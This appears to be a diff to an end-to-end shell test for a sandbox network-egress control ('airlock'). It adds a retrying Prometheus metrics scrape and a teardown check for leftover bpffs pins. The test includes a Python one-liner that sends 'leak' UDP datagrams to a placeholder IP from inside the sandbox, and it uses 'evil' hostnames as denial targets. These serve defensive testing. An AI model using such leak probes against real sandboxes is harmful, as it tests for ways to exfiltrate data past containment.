@@ -100,7 +100,7 @@ al_fail "a denied Host header is refused" sbx_exec curl -fsS -m 10 -H 'Host: evi
 al_ok "UDP datagrams can be sent (the sandbox cannot tell)..." \
   sbx_exec python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b"leak", ("203.0.113.10", 443)) for _ in range(5)]'
 sleep 1
-al_fail "... but none reaches the upstream" grep -q 'from' "$AL_TMP/udp.log"
+al_fail "... but none reaches the upstream" grep -q '^DGRAM' "$AL_TMP/udp.log"
 al_fail "nothing denied reached an upstream" grep -q 'REQ evil' "$AL_TMP/up.req"
 
 al_note "the audit log"
@@ -113,8 +113,22 @@ al_match "the refused DNS name" "evil.test" cli audit query --sandbox "$SB" --de
 al_ok "airlock audit verify passes" cli audit verify
 
 al_note "metrics and teardown"
-al_match "Prometheus shows the egress decisions" 'airlock_egress_decisions_total\{kind="connection",decision="deny"\} [1-9]' \
-  nsenter --net="/run/netns/$HOSTNS" curl -s "$(sed -n 's/^export E2B_API_URL=//p' "$AL_TMP/airlockd.log")/metrics"
+URL=$(sed -n 's/^export E2B_API_URL=//p' "$AL_TMP/airlockd.log")
+scrape() {
+  # The proxy's counters are fetched in the background: the first scrape may predate them.
+  for _ in 1 2 3 4 5 6 7 8 9 10; do
+    out=$(nsenter --net="/run/netns/$HOSTNS" curl -s "$URL/metrics")
+    echo "$out" | grep -qE "$1" && { echo "$out" | grep -E "$1"; return 0; }
+    sleep 0.5
+  done
+  return 1
+}
+al_ok "Prometheus shows the egress decisions" \
+  scrape 'airlock_egress_decisions_total\{kind="connection",decision="deny"\} [1-9]'
+al_ok "... and the sandboxes" scrape 'airlock_sandboxes\{state="running"\} 1'
+PINS=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["pin_dir"])' \
+  "$STATE/vswitch/instance.json" 2>/dev/null)
+al_note "the switch's pins: ${PINS:-?}"
 al_ok "kill" cli sandbox kill "$SB"
 al_kill airlockd TERM
 al_eq "airlockd stopped" "$(kill -0 "$(al_pid airlockd)" 2>/dev/null && echo running || echo gone)" gone
@@ -123,4 +137,5 @@ al_eq "no sandbox directory left" "$(ls -A "$STATE/sandboxes" 2>/dev/null | wc -
 al_eq "no cgroup left" "$(find /sys/fs/cgroup/*/"$CG" /sys/fs/cgroup/"$CG" -mindepth 1 -type d 2>/dev/null | wc -l)" 0
 al_eq "no mount of this state left" "$(grep -c "$STATE" /proc/self/mountinfo || true)" 0
 al_eq "no process of this state left" "$(pgrep -fc -- "$STATE/" || true)" 0
+al_eq "the switch is removed (no bpffs pins left)" "$([ -n "$PINS" ] && [ -e "$PINS" ] && echo left || echo gone)" gone
 al_done
